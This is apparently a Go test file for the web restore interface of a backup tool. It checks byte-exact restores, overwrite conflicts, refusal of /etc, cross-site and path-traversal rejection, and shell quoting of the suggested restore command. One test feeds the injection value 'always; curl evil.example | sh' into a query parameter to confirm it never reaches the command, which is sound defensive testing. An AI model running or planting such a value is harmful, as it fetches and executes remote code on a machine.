package web

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"coffer/backup"
	"coffer/seal"
	"coffer/upstream"
)

// gatedRepo lets a restore begin when the gate opens, and says before that how far it is.
type gatedRepo struct {
	*backup.Repo
	gate chan struct{}
}

func (r *gatedRepo) RestoreNew(ctx context.Context, o backup.RestoreOptions) (backup.Report, error) {
	o.Progress(backup.Progress{Files: 7, AllFiles: 9, Bytes: 4e9, AllBytes: 5e9, Counted: true})
	select {
	case <-r.gate:
		return r.Repo.RestoreNew(ctx, o)
	case <-ctx.Done():
		return backup.Report{}, ctx.Err()
	}
}

// newRealSite has a repository with one snapshot of two files.
func newRealSite(t *testing.T) (s *site, repo *gatedRepo, id string, want []byte) {
	t.Helper()
	dir := t.TempDir()
	bucket, err := upstream.NewFolder(filepath.Join(dir, "store"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { bucket.Close() })
	c := backup.Config{Bucket: bucket, Keys: seal.NewKey().Keys(seal.NewStoreID())}
	if err := backup.Init(t.Context(), c); err != nil {
		t.Fatal(err)
	}
	r, err := backup.Open(t.Context(), c)
	if err != nil {
		t.Fatal(err)
	}
	want = bytes.Repeat([]byte("Dear grandma, \x00\xff\n"), 100_000)
	source := filepath.Join(dir, "docs")
	if err := os.MkdirAll(filepath.Join(source, "Letters & more"), 0o700); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string][]byte{"Letters & more/" + evilSafe: want, "other.txt": []byte("other")} {
		if err := os.WriteFile(filepath.Join(source, name), text, 0o640); err != nil {
			t.Fatal(err)
		}
	}
	snap, report, err := r.Backup(t.Context(), backup.BackupOptions{Source: "docs", Host: "laptop", Paths: []string{source}})
	if err != nil || len(report.Failed) > 0 {
		t.Fatal(err, report.Failed)
	}
	s = newSite(t, nil)
	repo = &gatedRepo{r, make(chan struct{})}
	s.real, s.to = repo, filepath.Join(dir, "restored-docs")
	return s, repo, snap.ID, want
}

// evilSafe is an evil name without a "/".
var evilSafe = strings.ReplaceAll(evilName, "/", "")

// TestBrowserRestore: a folder is chosen in a real browser, looked at, restored
// under the eyes of the user, and is the same byte for byte; what is there already
// is not replaced unasked.
func TestBrowserRestore(t *testing.T) {
	s, repo, id, want := newRealSite(t)
	b := newTab(t)
	b.signIn(s)
	b.open(s, "/snapshots/"+id+"?path="+url.QueryEscape("/Letters & more"))
	b.press(`a[href*="/restore"]`)
	if got := eval[string](b, `document.getElementById("to").value`); got != s.to {
		t.Errorf("it suggests %q, want %q", got, s.to)
	}
	b.press(`button[value=look]`)
	b.wait(`document.querySelector(".outcome").textContent.includes("1 file, 1.7 MB, would be restored")`)
	if _, err := os.Stat(s.to); !os.IsNotExist(err) {
		t.Errorf("the look has made the folder: %v", err)
	}
	b.shot("restore-plan-light-1280")
	b.press(`button[value=restore]`)
	b.wait(`document.querySelector("[data-restore] progress").value === 4e9`)
	b.wait(`document.querySelector("[data-restore]").textContent.includes("4.0 GB of 5.0 GB, 7 of 9 files")`)
	b.shot("restore-running-light-1280")
	close(repo.gate)
	b.wait(`document.querySelector(".outcome") && document.querySelector(".outcome").textContent.startsWith("Restored 1 file, 1.7 MB")`)
	b.shot("restore-done-light-1280")
	file := filepath.Join(s.to, evilSafe)
	if got, err := os.ReadFile(file); err != nil || !bytes.Equal(got, want) {
		t.Errorf("restored %d bytes, want %d, %v", len(got), len(want), err)
	}

	if err := os.WriteFile(file, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	b.press(`a[href*="/restore?"]`) // again, into the same folder
	b.press(`button[value=look]`)
	b.wait(`document.querySelector(".outcome").textContent.includes("There already, and different: 1 file")`)
	if n := eval[int](b, `document.querySelectorAll("button[value=restore]").length`); n != 0 || !strings.Contains(eval[string](b, "document.body.innerText"), evilSafe) {
		t.Errorf("it may begin (%d), or does not say what is in the way", n)
	}
	b.shot("restore-conflict-light-1280")
	b.press(`a[href*="/restore?"]`)
	b.do(chromedp.SetValue(chromedp.CSS("#overwrite"), "changed"))
	b.press(`button[value=look]`)
	b.press(`button[value=restore]`)
	b.wait(`document.querySelector(".outcome").textContent.startsWith("Restored")`)
	if got, err := os.ReadFile(file); err != nil || !bytes.Equal(got, want) {
		t.Errorf("replaced %d bytes, want %d, %v", len(got), len(want), err)
	}

	b.open(s, "/snapshots/"+id+"/restore?path=/&to=/etc")
	b.press(`button[value=look]`)
	if text := eval[string](b, `document.querySelector("[role=alert]").innerText`); !strings.Contains(text, "may not write to /etc") || !strings.Contains(text, "Choose another one") {
		t.Errorf("a folder that is refused: %q", text)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.problems = nil // the 422 of the refusal
}

// TestRestoreForms: without a script all of it works by forms, one restore goes on
// at a time and can be stopped, and nothing is begun by a link, or by another site.
func TestRestoreForms(t *testing.T) {
	s, _, id, _ := newRealSite(t)
	cookie := s.login(t)
	post := func(path, body string, edit func(*http.Request)) *http.Response {
		t.Helper()
		return s.request(t, "POST", path, func(r *http.Request) {
			form(body)(r)
			r.AddCookie(cookie)
			if edit != nil {
				edit(r)
			}
		})
	}
	at := "/snapshots/" + id + "/restore?path=/"
	in := "to=" + url.QueryEscape(s.to)
	if _, body := s.get(t, cookie, at+"&overwrite="+url.QueryEscape("always; curl evil.example | sh")); strings.Contains(body, "evil") || !strings.Contains(body, "coffer restore ") {
		t.Errorf("the command is that of the address:\n%s", body)
	}
	if _, body := s.get(t, cookie, at+"&overwrite=older"); !strings.Contains(body, " --overwrite older") {
		t.Errorf("the command lacks the mode:\n%s", body)
	}
	foreign := func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") }
	for _, c := range []struct {
		path, body string
		edit       func(*http.Request)
		status     int
	}{
		{at, in + "&do=restore", foreign, http.StatusForbidden},
		{at, in + "&overwrite=all", nil, http.StatusBadRequest},
		{at, "to=/etc", nil, http.StatusUnprocessableEntity},
		{at, "to=", nil, http.StatusUnprocessableEntity},
		{"/snapshots/" + id + "/restore?path=/../x", in, nil, http.StatusBadRequest},
		{"/snapshots/" + id + "/restore?path=/none", in, nil, http.StatusNotFound},
		{"/restores/7/stop", "", nil, http.StatusNotFound},
	} {
		if resp := post(c.path, c.body, c.edit); resp.StatusCode != c.status {
			t.Errorf("%s %s: %s, want %d", c.path, c.body, resp.Status, c.status)
		}
	}
	if _, err := os.Stat(s.to); !os.IsNotExist(err) {
		t.Fatalf("something was restored: %v", err)
	}

	resp := post(at, in+"&do=restore", nil) // stays before the gate
	run := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusSeeOther || run != "/restores/1" {
		t.Fatalf("%s to %q", resp.Status, run)
	}
	if _, body := s.get(t, cookie, run); !strings.Contains(body, `<noscript><meta http-equiv="refresh"`) || !strings.Contains(body, "4.0 GB of 5.0 GB") {
		t.Errorf("under way it shows\n%s", body)
	}
	if _, body := s.get(t, cookie, run+"/state"); !strings.HasPrefix(body, `{"done":false,"run":{"value":4000000000,`) {
		t.Errorf("the state is %s", body)
	}
	if _, body := s.get(t, cookie, "/snapshots"); !strings.Contains(body, `href="/restores/1"`) {
		t.Error("the snapshots do not lead to what is restored")
	}
	if resp := post(at, in, nil); resp.StatusCode != http.StatusConflict {
		t.Errorf("a second one: %s", resp.Status)
	}
	post(run+"/stop", "", nil)
	if _, body := s.get(t, cookie, run); !strings.Contains(body, "Stopped") {
		t.Errorf("stopped it shows\n%s", body)
	}
	for range keptRestores + 2 {
		post(at, in, nil)
	}
	if resp, _ := s.get(t, cookie, run); resp.StatusCode != http.StatusNotFound {
		t.Errorf("the first of many: %s", resp.Status)
	}
	if _, body := s.get(t, cookie, fmt.Sprintf("/restores/%d", keptRestores+3)); !strings.Contains(body, "Restore now") {
		t.Errorf("a look shows\n%s", body)
	}
}

func TestRestoreCommand(t *testing.T) {
	snap := &backup.Snapshot{ID: "0123456789abcdef"}
	for want, a := range map[string]restoreAsk{
		"coffer restore 01234567 --to /tmp/x":                                            {path: "/", to: "/tmp/x"},
		`coffer restore '01234567:/it'\''s here' --to '/a b' --overwrite older --verify`: {path: "/it's here", to: "/a b", mode: "older", verify: true},
	} {
		a.snapshot = snap
		if got := a.command(); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

// What the page says of a verified restore does not claim more than was compared.
func TestRestoreVerifiedText(t *testing.T) {
	for _, c := range []struct {
		mode string
		kept int64
		all  bool
	}{{"", 3, true}, {"changed", 3, true}, {"never", 0, true}, {"never", 1, false}, {"older", 1, false}} {
		var v restoringView
		v.ended(&restoreAsk{mode: c.mode, verify: true}, backup.Report{Statistics: backup.Statistics{Files: 4, Unchanged: c.kept}}, nil)
		if all := strings.HasPrefix(v.Details[0], "All of it was read again"); all != c.all {
			t.Errorf("%q with %d kept: %q", c.mode, c.kept, v.Details)
		}
	}
}
